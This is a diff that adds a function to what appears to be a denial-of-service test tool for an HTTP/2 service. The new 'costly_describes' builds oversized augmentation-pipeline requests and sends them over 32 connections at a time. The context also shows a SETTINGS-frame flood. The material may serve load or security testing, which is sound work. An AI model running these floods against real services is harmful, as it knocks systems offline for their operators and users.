@@ -143,6 +143,33 @@ def gzip_requests(address, size):
     return sent
 
 
+def _bytes_field(number, data):
+    """A field of a protobuf message: text, bytes or another message."""
+    return http2.varint(number << 3 | 2) + http2.varint(len(data)) + data
+
+
+def costly_describes(address, size):
+    """In units of 32 callers, each of whom has a pipeline of 1,024 ops explained."""
+    crop = _bytes_field(3, _bytes_field(2, _bytes_field(1, b"\x40")))  # RandomResizedCrop(64)
+    rand_augment = _bytes_field(3, _bytes_field(31, b"\x08\x01"))  # RandAugment(num_ops=1)
+    views = b"".join(_bytes_field(7, _bytes_field(1, b"v%d" % i) + crop + rand_augment * 63) for i in range(16))
+    explain = _bytes_field(1, b"noise") + _bytes_field(2, views) + b"\x20\x01"
+    frames = b"".join(
+        frame(DATA, 0, 1, part) for part in (message(explain)[at : at + 16384] for at in range(0, len(explain) + 5, 16384))
+    )
+    sent = 0
+    for _ in range(size):
+        connections = [Connection(address, source=SOURCE) for _ in range(32)]
+        for connection in connections:
+            connection.send(frame(HEADERS, END_HEADERS, 1, request_headers(http2.DESCRIBE_PATH)) + frames)
+            connection.send(frame(DATA, END_STREAM, 1))
+        for connection in connections:
+            _await_end(connection, 30)
+            sent += connection.sent
+            connection.close()
+    return sent
+
+
 def settings_flood(address, size):
     return _send_all(address, itertools.repeat(frame(SETTINGS, 0, 0, b"\0\x04\0\0\xff\xff") * 200), size)
 
